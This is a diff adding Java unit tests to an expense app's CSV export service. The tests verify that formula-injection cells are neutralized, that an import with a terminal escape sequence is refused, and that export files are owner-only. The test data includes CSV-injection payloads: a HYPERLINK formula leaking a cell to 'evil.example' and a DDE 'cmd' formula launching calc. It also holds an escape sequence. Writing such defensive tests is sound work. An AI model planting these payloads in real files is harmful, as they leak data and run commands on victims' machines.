@@ -93,4 +93,71 @@ class ExportServiceTest {
         var bob = TestUsers.signedUp(services, "bob");
         assertThat(export(bob, ExpenseFilter.ALL)).isEqualTo("date,description,category,payee,amount\n");
     }
+
+    @Test
+    void cellsASpreadsheetWouldEvaluateAreWrittenAsText() throws IOException {
+        var bob = TestUsers.signedUp(services, "bob");
+        long dining = services.categories().findByName(bob, "Dining").orElseThrow().id();
+        String[] hostile = {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "=cmd|' /C calc'!A0", "+1+1",
+            "-2+3", "@SUM(A1:A9)"};
+        for (String text : hostile) {
+            services.expenses().create(bob, new io.spendsense.domain.ExpenseDraft(LocalDate.of(2026, 3, 1),
+                    new java.math.BigDecimal("1.00"), dining, text, text, null));
+        }
+        var records = org.apache.commons.csv.CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
+                .parse(new StringReader(export(bob, ExpenseFilter.ALL))).getRecords();
+        assertThat(records).hasSize(hostile.length);
+        for (var r : records) {
+            assertThat(r.get("description")).startsWith("'");
+            assertThat(r.get("payee")).startsWith("'");
+            assertThat(r.get("amount")).isEqualTo("1.00");
+        }
+        assertThat(ExportService.neutralize("Coffee")).isEqualTo("Coffee");
+        assertThat(ExportService.neutralize("'quoted")).isEqualTo("'quoted");
+        // (the editor and import strip leading whitespace, but a cell starting with a tab or CR is quoted too)
+        assertThat(ExportService.neutralize("\tTab first")).isEqualTo("'\tTab first");
+        assertThat(ExportService.neutralize("\rReturn")).isEqualTo("'\rReturn");
+        for (String text : hostile) {
+            assertThat(ExportService.unneutralize(ExportService.neutralize(text))).isEqualTo(text);
+        }
+        // the round trip is lossless: importing the export gives back the text without the quotes
+        String exported = export(bob, ExpenseFilter.ALL);
+        var carol = TestUsers.signedUp(services, "carol");
+        services.importer().importCsv(carol, "export.csv", new StringReader(exported), ImportOptions.DEFAULT);
+        var back = services.expenses().page(carol, ExpenseFilter.ALL, new io.spendsense.domain.ExpenseSort(
+                io.spendsense.domain.ExpenseSort.Field.DATE, true), 0, 20).items();
+        assertThat(back).extracting(io.spendsense.domain.Expense::payee).containsExactlyInAnyOrder(hostile);
+        assertThat(export(carol, ExpenseFilter.ALL)).isEqualTo(exported);
+    }
+
+    @Test
+    void anImportWithAnEscapeSequenceIsRefusedNamingTheLineAndField() throws IOException {
+        var bob = TestUsers.signedUp(services, "bob");
+        String csv = "date,description,category,payee,amount\n2024-05-01,Dinner,Dining,Nopa,80.00\n"
+                + "2024-05-02,Lunch,Dining,\"Cafe\u001b]0;pwned\u0007\",12.00\n";
+        org.assertj.core.api.Assertions.assertThatThrownBy(() -> services.importer().importCsv(bob, "bad.csv",
+                        new StringReader(csv), ImportOptions.DEFAULT))
+                .isInstanceOfSatisfying(ImportException.class, e -> assertThat(e.errors().toString())
+                        .contains("3").contains("payee contains a control character (U+001B) at position 5"));
+        assertThat(export(bob, ExpenseFilter.ALL)).isEqualTo("date,description,category,payee,amount\n");
+    }
+
+    @Test
+    void anExportFileIsOwnerOnlyAndReplacesTheOldOneWhole() throws IOException {
+        Path file = dir.resolve("out.csv");
+        java.nio.file.Files.writeString(file, "old");
+        java.nio.file.Files.setPosixFilePermissions(file, java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
+        long count = services.exporter().exportTo(alice, ExpenseFilter.ALL, file);
+        assertThat(count).isEqualTo(1416);
+        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(java.nio.file.Files.getPosixFilePermissions(file)))
+                .isEqualTo("rw-------");
+        assertThat(java.nio.file.Files.readString(file)).isEqualTo(export(alice, ExpenseFilter.ALL));
+        Path fresh = dir.resolve("fresh.csv");
+        services.exporter().exportTo(alice, ExpenseFilter.ALL, fresh);
+        assertThat(java.nio.file.attribute.PosixFilePermissions.toString(java.nio.file.Files.getPosixFilePermissions(fresh)))
+                .isEqualTo("rw-------");
+        try (var files = java.nio.file.Files.list(dir)) {
+            assertThat(files.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".part"));
+        }
+    }
 }
